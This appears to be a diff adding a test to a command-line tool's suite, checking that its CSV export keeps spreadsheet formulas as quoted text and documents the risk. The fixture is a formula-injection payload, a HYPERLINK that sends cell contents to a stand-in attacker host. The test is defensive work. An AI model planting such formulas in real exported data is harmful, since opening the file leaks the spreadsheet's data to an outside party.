@@ -56,6 +56,14 @@ describe('the answer', () => {
   });
 });
 
+test('--csv writes formulas as the texts they are, and says that it does', async () => {
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Total")';
+  world.insert('trades', tradeRow('t-4', { executed_at: '2026-11-13T14:30:00.000Z', notes: formula }));
+  const { stdout } = await get('trades', 'limit=1', '--csv', '--fields', 'notes');
+  expect(stdout).toContain(`"${formula.replaceAll('"', '""')}"`);
+  expect((await runHere(['get', '--help'])).stdout).toMatch(/spreadsheet .* formula/);
+});
+
 describe('--all', () => {
   test('follows the cursors, one page after the other', async () => {
     const { code, stdout } = await get('trades', 'limit=1', '--all');
